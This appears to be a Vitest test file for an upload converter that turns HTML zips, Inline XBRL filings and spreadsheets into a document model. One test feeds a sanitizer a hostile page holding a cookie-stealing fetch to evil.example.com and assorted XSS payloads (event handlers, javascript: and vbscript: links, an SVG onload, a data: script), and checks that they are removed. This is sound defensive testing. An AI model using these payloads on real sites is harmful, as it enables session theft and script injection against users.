import { createHash } from 'node:crypto';
import { DocumentType } from '@ea/contracts';
import { assertValidModel, MARK, type ModelNode, NODE } from '@ea/document-model';
import { contentKey } from '@ea/storage';
import { writeSheet } from '@ea/workbook';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { uploadConversions } from './conversion/conversion-pool.ts';
import { type Converted, convertUpload, XLSX_CONTENT_TYPE } from './convert-upload.ts';
import { samplePng } from './testing/sample-png.ts';
import { uploadStorage } from './testing/upload-storage.ts';
import { part, zipArchive } from './testing/zip-parts.ts';

// The process's conversion workers, which these uploads started, end with the file.
afterAll(() => uploadConversions.close());

const stores: ReturnType<typeof uploadStorage>[] = [];
afterEach(async () => {
  for (const store of stores.splice(0)) await store.close();
});
function store() {
  const created = uploadStorage();
  stores.push(created);
  return created;
}

function topicsOf(converted: Converted) {
  if (converted.kind !== 'model') throw new Error(`expected a model, got ${converted.kind}`);
  for (const topic of converted.topics) assertValidModel(topic.model);
  return converted.topics;
}

function all(node: ModelNode, type: string): ModelNode[] {
  const found = node.type === type ? [node] : [];
  for (const child of node.content ?? []) found.push(...all(child, type));
  return found;
}

function text(node: ModelNode): string {
  return node.text ?? (node.content ?? []).map(text).join('');
}

const keyOf = (bytes: Buffer) => contentKey(createHash('sha256').update(bytes).digest('hex'));

describe('convertUpload of HTML', () => {
  it('reads a zip of pages in name order with the images they name relatively, storing each image once', async () => {
    const logo = samplePng(3, 3, [0, 80, 160]);
    const chart = samplePng(5, 2, [20, 160, 20]);
    const outside = samplePng(1, 1);
    const zip = zipArchive([
      part(
        'report/pages/b-notes.htm',
        [
          '<html><body><h1>Notes</h1><p>See the chart.</p><img src="../images/chart.png" alt="Chart">',
          '<h1>Segments</h1><p><img src="../images/LOGO.png"><img src="../../../outside.png"><img src="https://cdn.example.com/x.png"></p></body></html>',
        ].join(''),
      ),
      part('report/pages/a-cover.html', '<html><body><p>Annual report</p><img src="../images/logo.png?v=2" width="30"></body></html>'),
      part('report/images/logo.png', logo),
      part('report/images/chart.png', chart),
      part('outside.png', outside),
      part('report/app.js', 'alert(1)'),
      part('report/style.css', 'body { background: url(http://tracker.example.com/x.gif) }'),
    ]);
    const uploads = store();
    const converted = await convertUpload({ fileName: 'report.zip', bytes: zip }, { storeImage: uploads.storeImage });

    expect(converted).toMatchObject({ kind: 'model', documentType: DocumentType.html, warnings: [] });
    const topics = topicsOf(converted);
    expect(topics.map((t) => t.title)).toEqual(['a-cover', 'Notes', 'Segments']);
    const images = topics.map((t) => all(t.model, NODE.image).map((image) => image.attrs));
    expect(images).toEqual([
      [{ key: keyOf(logo), alt: '', width: 30, height: null }],
      [{ key: keyOf(chart), alt: 'Chart', width: null, height: null }],
      [{ key: keyOf(logo), alt: '', width: null, height: null }],
    ]);
    expect(uploads.calls.map((c) => c.bytes).sort()).toEqual([logo.length, chart.length].sort());
    expect((await uploads.keys()).sort()).toEqual([keyOf(logo), keyOf(chart)].sort());
  });

  it('keeps scripts, event handlers, javascript: links, frames and external references out of the model', async () => {
    const embedded = samplePng(2, 2, [1, 2, 3]);
    const page = `<!DOCTYPE html><html><head>
      <script>fetch('https://evil.example.com/steal?c=' + document.cookie)</script>
      <link rel="stylesheet" href="https://evil.example.com/x.css"><base href="https://evil.example.com/">
      <meta http-equiv="refresh" content="0;url=https://evil.example.com/"></head>
      <body onload="alert('body')">
      <h1 onclick="alert('h1')">Report</h1>
      <p style="background:url(https://evil.example.com/bg.png)">Safe <a href="javascript:alert('a')">text</a>
        and <a href="https://www.sec.gov/" onmouseover="alert('over')">a link</a>.</p>
      <img src="x" onerror="alert('img')"><img src="https://evil.example.com/track.png">
      <img src="data:image/png;base64,${embedded.toString('base64')}" alt="Embedded">
      <img src="data:image/svg+xml;base64,${Buffer.from('<svg onload="alert(1)"/>').toString('base64')}">
      <iframe src="https://evil.example.com/"></iframe><object data="https://evil.example.com/x.swf"></object>
      <svg><script>alert('svg')</script></svg><form action="https://evil.example.com/"><input name="q"></form>
      <a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
      </body></html>`;
    const uploads = store();
    const converted = await convertUpload({ fileName: 'page.html', bytes: Buffer.from(page) }, { storeImage: uploads.storeImage });
    const [topic] = topicsOf(converted);
    const json = JSON.stringify(topic!.model);
    for (const banned of ['alert', 'evil.example.com', 'javascript', 'vbscript', 'script', 'onload', 'onerror', 'data:', 'svg']) {
      expect(json, banned).not.toContain(banned);
    }
    expect(text(topic!.model.content![1]!)).toBe('Safe text and a link.');
    const links = all(topic!.model, NODE.text).flatMap((node) => (node.marks ?? []).filter((m) => m.type === MARK.link));
    expect(links).toEqual([{ type: MARK.link, attrs: { href: 'https://www.sec.gov/' } }]);
    expect(all(topic!.model, NODE.image).map((image) => image.attrs?.key)).toEqual([keyOf(embedded)]);
    expect(uploads.calls).toEqual([{ contentType: 'image/png', bytes: embedded.length }]);
  });

  it('decodes a page as it declares (Word saves windows-1252) and tells Inline XBRL from HTML', async () => {
    const legacy = Buffer.concat([
      Buffer.from('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head><body><p>'),
      Buffer.from([0x80, 0x20, 0x35, 0x20, 0x96, 0x20, 0x93, 0x71, 0x94]),
      Buffer.from('</p></body></html>'),
    ]);
    const plain = await convertUpload({ fileName: 'legacy.htm', bytes: legacy }, { storeImage: store().storeImage });
    expect(plain.documentType).toBe(DocumentType.html);
    expect(text(topicsOf(plain)[0]!.model)).toBe('€ 5 – “q”');

    const ixbrl = `<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:ix="http://www.xbrl.org/2013/inlineXBRL">
      <body><div style="display:none"><ix:header><ix:resources/></ix:header></div>
      <p>Revenue was <ix:nonFraction name="us-gaap:Revenues" contextRef="FY2025" unitRef="usd" decimals="-6" scale="6" id="f1">1,234</ix:nonFraction> million.</p></body></html>`;
    const tagged = await convertUpload({ fileName: 'filing.xhtml', bytes: Buffer.from(ixbrl) }, { storeImage: store().storeImage });
    expect(tagged.documentType).toBe(DocumentType.ixbrl);
    const fact = all(topicsOf(tagged)[0]!.model, NODE.text).find((node) => node.text === '1,234');
    expect(fact?.marks?.[0]).toMatchObject({ type: MARK.xbrlFact, attrs: { id: 'f1', name: 'us-gaap:Revenues', contextRef: 'FY2025' } });
  });

  it('keeps an Inline XBRL header as the XBRL metadata: namespaces, schemaRefs, contexts, units, hidden facts and relationships, one set for the pages of a zip', async () => {
    const page = (entity: string, extra: string) => `
      <html xmlns="http://www.w3.org/1999/xhtml" xmlns:ix="http://www.xbrl.org/2013/inlineXBRL" xmlns:xbrli="http://www.xbrl.org/2003/instance"
        xmlns:link="http://www.xbrl.org/2003/linkbase" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:iso4217="http://www.xbrl.org/2003/iso4217"
        xmlns:xbrldi="http://xbrl.org/2006/xbrldi" xmlns:dei="http://xbrl.sec.gov/dei/2024" xmlns:us-gaap="http://fasb.org/us-gaap/2024" xmlns:acme="http://acme.example/2025">
      <body><div style="display:none"><ix:header>
        <ix:hidden><ix:nonNumeric name="dei:AmendmentFlag" contextRef="d" id="h-${entity}">false</ix:nonNumeric></ix:hidden>
        <ix:references><link:schemaRef xlink:type="simple" xlink:href="acme-${entity}.xsd"/></ix:references>
        <ix:resources>
          <xbrli:context id="d"><xbrli:entity><xbrli:identifier scheme="http://www.sec.gov/CIK">${entity}</xbrli:identifier></xbrli:entity>
            <xbrli:period><xbrli:startDate>
              2025-01-01</xbrli:startDate><xbrli:endDate>2025-03-31</xbrli:endDate></xbrli:period></xbrli:context>
          <xbrli:context id="seg"><xbrli:entity><xbrli:identifier scheme="http://www.sec.gov/CIK">${entity}</xbrli:identifier>
            <xbrli:segment><xbrldi:explicitMember dimension="us-gaap:StatementBusinessSegmentsAxis"> acme:CloudMember </xbrldi:explicitMember></xbrli:segment></xbrli:entity>
            <xbrli:period><xbrli:instant>2025-03-31</xbrli:instant></xbrli:period></xbrli:context>
          <xbrli:unit id="usd-per-share"><xbrli:divide><xbrli:unitNumerator><xbrli:measure>iso4217:USD</xbrli:measure></xbrli:unitNumerator>
            <xbrli:unitDenominator><xbrli:measure>xbrli:shares</xbrli:measure></xbrli:unitDenominator></xbrli:divide></xbrli:unit>
          <ix:relationship fromRefs="eps-${entity}" toRefs="fn-${entity}"/>
          ${extra}
        </ix:resources></ix:header></div>
      <p>EPS <ix:nonFraction name="us-gaap:EarningsPerShareBasic" contextRef="d" unitRef="usd-per-share" decimals="2" id="eps-${entity}">1.65</ix:nonFraction></p>
      <p>(1) <ix:footnote id="fn-${entity}">Basic and diluted.</ix:footnote></p></body></html>`;
    const one = await convertUpload(
      { fileName: 'acme.htm', bytes: Buffer.from(page('0000000001', '')) },
      { storeImage: store().storeImage },
    );
    expect(one).toMatchObject({ documentType: DocumentType.ixbrl, warnings: [] });
    if (one.kind !== 'model') throw new Error('expected a model');
    expect(one.xbrl).toEqual({
      namespaces: expect.objectContaining({ acme: 'http://acme.example/2025', 'us-gaap': 'http://fasb.org/us-gaap/2024' }),
      schemaRefs: ['acme-0000000001.xsd'],
      contexts: [
        {
          id: 'd',
          period: { startDate: '2025-01-01', endDate: '2025-03-31' },
          entity: { scheme: 'http://www.sec.gov/CIK', identifier: '0000000001' },
        },
        {
          id: 'seg',
          period: { instant: '2025-03-31' },
          entity: {
            scheme: 'http://www.sec.gov/CIK',
            identifier: '0000000001',
            segment: {
              explicitMembers: [{ dimension: 'us-gaap:StatementBusinessSegmentsAxis', member: 'acme:CloudMember' }],
              typedMembers: [],
            },
          },
        },
      ],
      units: [{ id: 'usd-per-share', numerator: ['iso4217:USD'], denominator: ['xbrli:shares'] }],
      hiddenFacts: [{ id: 'h-0000000001', kind: 'nonNumeric', name: 'dei:AmendmentFlag', contextRef: 'd', value: 'false' }],
      relationships: [{ fromRefs: ['eps-0000000001'], toRefs: ['fn-0000000001'] }],
    });
    const note = all(topicsOf(one)[0]!.model, NODE.text).find((node) => node.text === 'Basic and diluted.');
    expect(note?.marks?.[0]).toMatchObject({ type: MARK.xbrlFact, attrs: { id: 'fn-0000000001', kind: 'footnote' } });

    // Pages filed together: one set of contexts and units (the first page's where ids meet), every schemaRef and hidden fact.
    const shares = '<xbrli:unit id="shares"><xbrli:measure>xbrli:shares</xbrli:measure></xbrli:unit>';
    const zip = zipArchive([part('a.htm', page('0000000001', '')), part('b.htm', page('0000000002', shares))]);
    const set = await convertUpload({ fileName: 'set.zip', bytes: zip }, { storeImage: store().storeImage });
    if (set.kind !== 'model') throw new Error('expected a model');
    expect(set.xbrl?.schemaRefs).toEqual(['acme-0000000001.xsd', 'acme-0000000002.xsd']);
    expect(set.xbrl?.contexts.map((c) => [c.id, c.entity?.identifier])).toEqual([
      ['d', '0000000001'],
      ['seg', '0000000001'],
    ]);
    expect(set.xbrl?.units?.map((u) => u.id)).toEqual(['usd-per-share', 'shares']);
    expect(set.xbrl?.hiddenFacts?.map((f) => f.id)).toEqual(['h-0000000001', 'h-0000000002']);
    expect(set.xbrl?.relationships?.map((r) => r.toRefs)).toEqual([['fn-0000000001'], ['fn-0000000002']]);

    // A header that is not XML keeps its facts in the text, and no metadata, saying so.
    const broken = page('0000000001', '').replace('xmlns:xbrli="http://www.xbrl.org/2003/instance"', '');
    const unread = await convertUpload({ fileName: 'broken.htm', bytes: Buffer.from(broken) }, { storeImage: store().storeImage });
    if (unread.kind !== 'model') throw new Error('expected a model');
    expect(unread.xbrl).toBeNull();
    expect(unread.warnings).toEqual([
      'The Inline XBRL header of broken is not well-formed XML (8:32: unbound namespace prefix: "xbrli"); its contexts and units were not kept',
    ]);
    expect(all(topicsOf(unread)[0]!.model, NODE.text).find((node) => node.text === '1.65')?.marks?.[0]).toMatchObject({
      attrs: { id: 'eps-0000000001' },
    });
  });

  it('leaves out a page of a zip that is no HTML, and says so', async () => {
    const zip = zipArchive([part('index.html', '<html><body><p>Kept</p></body></html>'), part('broken.htm', samplePng())]);
    const converted = await convertUpload({ fileName: 'site.zip', bytes: zip }, { storeImage: store().storeImage });
    expect(converted).toMatchObject({ warnings: ['broken.htm is not an HTML page; it was left out'] });
    expect(topicsOf(converted).map((t) => t.title)).toEqual(['index']);
  });
});

describe('convertUpload of files kept as they are', () => {
  it('accepts a well-formed .xml, an .xlsx and a .pdf by content, storing nothing itself', async () => {
    const xlsx = await writeSheet('Sheet1', [['Name'], ['Acme']]);
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
    const uploads = store();
    const cases: [string, Buffer, Converted][] = [
      [
        'form.xml',
        Buffer.from('<?xml version="1.0"?><edgarSubmission><issuer>Acme</issuer></edgarSubmission>'),
        { kind: 'stored', documentType: DocumentType.xmlForm, contentType: 'application/xml' },
      ],
      ['book.xlsx', xlsx, { kind: 'stored', documentType: DocumentType.none, contentType: XLSX_CONTENT_TYPE }],
      ['filing.pdf', pdf, { kind: 'stored', documentType: DocumentType.pdf, contentType: 'application/pdf' }],
    ];
    for (const [fileName, bytes, expected] of cases) {
      expect(await convertUpload({ fileName, bytes }, { storeImage: uploads.storeImage }), fileName).toEqual(expected);
    }
    expect(uploads.calls).toEqual([]);
  });
});
